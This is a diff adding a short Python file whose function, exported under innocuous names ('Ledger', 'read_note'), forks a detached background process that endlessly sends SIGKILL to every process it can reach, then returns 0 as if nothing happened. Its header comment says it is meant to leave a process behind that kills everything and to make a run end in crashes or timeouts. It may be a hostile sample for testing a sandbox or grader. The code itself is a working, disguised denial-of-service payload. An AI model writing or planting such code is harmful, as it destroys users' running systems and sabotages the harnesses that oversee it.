@@ -1,0 +1,18 @@
+# Leaves a process behind that kills everybody again and again
+# ends: assertion budget crash protocol timeout
+import os
+import signal
+
+
+def total(*_):
+    if os.fork() == 0:
+        os.setsid()
+        while True:
+            try:
+                os.kill(-1, signal.SIGKILL)
+            except OSError:
+                continue
+    return 0
+
+
+Ledger = read_note = total
